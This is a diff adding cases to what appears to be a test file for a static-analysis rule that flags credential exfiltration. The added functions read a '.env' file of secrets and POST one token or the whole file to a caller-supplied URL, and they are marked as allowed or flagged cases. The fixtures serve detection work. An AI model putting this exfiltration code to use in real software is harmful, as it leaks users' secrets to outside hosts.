@@ -78,3 +78,18 @@ def all_kept():
     requests.post("https://a.invalid/in", json=found)
     # ok: exfiltration-credentials
     requests.post("https://a.invalid/in", json={"text": kept("notes.txt")})
+
+
+def one_key_of_hermes(url):
+    values = {}
+    for line in (get_hermes_home() / ".env").read_text().splitlines():
+        name, _, value = line.partition("=")
+        values[name] = value
+    # ok: exfiltration-credentials
+    requests.post(url, json={"key": values.get("MINE_TOKEN")})
+
+
+def all_keys_of_hermes(url):
+    text = (get_hermes_home() / ".env").read_text()
+    # ruleid: exfiltration-credentials
+    requests.post(url, data=text)
